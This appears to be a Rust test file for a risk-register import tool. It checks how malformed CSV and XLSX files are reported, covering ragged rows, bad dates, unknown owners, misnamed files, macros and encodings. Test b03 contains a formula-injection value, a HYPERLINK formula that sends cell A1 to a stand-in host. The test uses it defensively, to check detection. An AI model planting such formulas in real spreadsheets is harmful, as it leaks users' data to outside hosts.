//! The files with mistakes in them, one test each: what is refused as a whole, what is named by its row, and what is still good.
//! What is expected stands beside the samples.
#![allow(clippy::unwrap_used)]
mod common;
use common::*;
use isms_import::{Choices, Import, Source, What};

fn refused(file: &str) -> isms::Refusal {
    match Source::read(file, &bytes(file)) {
        Err(r) => r,
        Ok(s) => Import::look(&s, demo(), today(), &Choices::default()).map(|_| ()).unwrap_err(),
    }
}

#[test]
fn b01_ragged() {
    let l = look("bad-01-ragged.csv", &RISK);
    assert_eq!((rows(&l, What::New), rows(&l, What::Wrong)), (vec![2, 7], vec![3, 4, 5]));
    assert_eq!((row(&l, 3).errors.len(), row(&l, 3).errors[0].column.as_str()), (1, "Impact"));
    assert!(row(&l, 4).errors[0].text.contains("6 cells for 5 columns"));
    assert_eq!(row(&l, 5).errors.len(), 4);
    assert!(noted(&l, "more cells than columns; what stands beyond the last column is not taken (row 7)"));
    // All or nothing, unless the owner says so.
    let r = l.proposal(false).unwrap_err();
    assert_eq!((r.place.as_str(), r.each().count()), ("row 3, column Impact", 8));
    assert_eq!(l.proposal(true).unwrap().changes.len(), 2);
    // A cell that the owner mends in the preview.
    let l = look("bad-01-ragged.csv", &with(&[("cell:3:Impact", "4 Serious"), ("row:4", "out"), ("row:5", "out")]));
    assert_eq!((l.counts.adds, l.counts.errors, l.counts.left_out), (3, 0, 2));
}
#[test]
fn b02_unclosed_quote() {
    let r = refused("bad-02-unclosed-quote.csv");
    assert_eq!(r.text, "row 2, column Title: a quotation mark is not closed; everything after it would be one cell.");
}
#[test]
fn b03_formulas() {
    let l = look("bad-03-formulas.csv", &with(&[("missing:likelihood", "2"), ("missing:impact", "3")]));
    assert!(noted(&l, "Cells that look like formulas: 4"));
    assert_eq!((rows(&l, What::New), rows(&l, What::Wrong)), (vec![2, 4, 5], vec![3]));
    assert_eq!(
        (row(&l, 3).errors[0].column.as_str(), row(&l, 4).title.as_str()),
        ("Owner", "-2 degrees in the server room")
    );
    assert_eq!(field(&l, "R-221", "title"), "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"open\")");
}
#[test]
fn b04_duplicate_codes() {
    let l = look("bad-04-duplicate-codes.csv", &RISK);
    assert_eq!(rows(&l, What::Wrong), [3, 4]);
    assert!(rows(&l, What::Wrong).iter().all(|r| row(&l, *r).errors[0].text.contains("row 2 has it first")));
    assert_eq!((row(&l, 5).what, row(&l, 5).id.as_deref()), (What::Changed, Some("R-001")));
    assert!(row(&l, 5).changes.iter().any(|c| c.field == "title"));
}
#[test]
fn b05_owners() {
    let l = look("bad-05-owner-unknown.csv", &RISK);
    let text = |n: u32| row(&l, n).errors[0].text.clone();
    assert!(text(2).starts_with("Jonathan Pike left on 28 February 2025."));
    assert_eq!(
        (
            ask(&l, "person:J. Magalhaes").choices[0].name.as_str(),
            ask(&l, "person:Olivier Trent").choices[0].name.as_str()
        ),
        ("P-008", "P-013")
    );
    assert!(text(4).contains("“the CFO” is no person") && text(5).contains("not answered"));
    let l = look(
        "bad-05-owner-unknown.csv",
        &with(&[("person:J. Magalhaes", "P-008"), ("person:Olivier Trent", "none"), ("person:the CFO", "P-020")]),
    );
    assert_eq!((rows(&l, What::New), rows(&l, What::Wrong)), (vec![3, 4], vec![2, 5, 6]));
}
#[test]
fn b06_dates() {
    let l = look("bad-06-dates.csv", &[]);
    let errors: Vec<String> = l.rows.iter().flat_map(|r| r.errors.iter().map(|e| e.text.clone())).collect();
    for why in [
        "February 2027 has no day 31",
        "no month 13",
        "February 2026 has no day 29",
        "June 2027 has no day 31",
        "zeros",
        "zero of a spreadsheet",
        "“tomorrow” is not a day",
        "3 April 2027 or 4 March 2027",
        "2023-03-15",
    ] {
        assert!(errors.iter().any(|e| e.contains(why)), "{why}: {errors:?}");
    }
    assert_eq!(
        (ask(&l, "date:Contract end").answer.as_deref(), ask(&l, "serial:Reviewed:45000").answer.as_deref()),
        (None, None)
    );
    assert_eq!(row(&l, 6).errors.len(), 0);
    assert!(ask(&l, "same:Nordhaven").choices[0].label.contains("Nordhaven Cloud"));
}
#[test]
fn b07_to_b09_nothing_in_it() {
    assert_eq!(refused("bad-07-empty.csv").text, "The file is empty.");
    assert_eq!(refused("bad-08-header-only.csv").text, "A header and no rows.");
    assert_eq!(refused("bad-09-empty-sheets.xlsx").text, "No sheet has rows.");
}
#[test]
fn b10_to_b12_names_and_macros() {
    let l = look("bad-10-csv-named.xlsx", &RISK);
    assert_eq!(l.counts.adds, 1);
    assert!(noted(&l, "The name ends in .xlsx, but by its content it is a plain text table (CSV)"));
    let r = refused("bad-11-html-named.xls");
    assert!(r.text.starts_with("It is a web page, not a spreadsheet.") && !r.text.contains("Laptop"));
    let l = look("bad-12-macro-stub.xlsm", &with(&[("missing:likelihood", "2"), ("missing:impact", "3")]));
    assert_eq!(l.counts.adds, 1);
    assert!(noted(&l, "The workbook has a macro part. It was not opened"));
}
#[test]
fn b14_mixed_encodings() {
    let given = with(&[("missing:likelihood", "2"), ("missing:impact", "3")]);
    let l = look("bad-14-mixed-encodings.csv", &given);
    assert_eq!((rows(&l, What::New), rows(&l, What::Wrong)), (vec![2], vec![3, 4]));
    assert_eq!(row(&l, 3).errors[0].text, "not UTF-8; read as Latin-1 it says «Prüfung fällig»: take that?");
    assert!(row(&l, 4).errors[0].text.contains("NUL"));
    let l =
        look("bad-14-mixed-encodings.csv", &given.iter().chain(&[("encoding:3", "take")]).copied().collect::<Vec<_>>());
    assert_eq!((rows(&l, What::New), field(&l, "R-282", "title")), (vec![2, 3], "Prüfung fällig".into()));
}
#[test]
fn b15_out_of_scale() {
    let l = look("bad-15-out-of-scale.xlsx", &RISK);
    assert!(noted(&l, "headings in row 4"));
    assert_eq!((l.counts.adds, l.counts.errors), (0, 5));
    for (n, column, value) in
        [(5, "Impact", "6"), (6, "Likelihood", "2-3"), (7, "Likelihood", "0"), (8, "Likelihood", "2.5")]
    {
        let e = row(&l, n).errors.iter().find(|e| e.column == column).unwrap();
        assert!(e.value == value && e.text.contains("it goes from 1 ("), "{e:?}");
    }
    assert!(row(&l, 8).errors[0].text.contains("400 characters; at most 200"));
    assert_eq!(row(&l, 9).errors[0].column, "Code");
    assert_eq!(to(&l, "Level"), None);
}
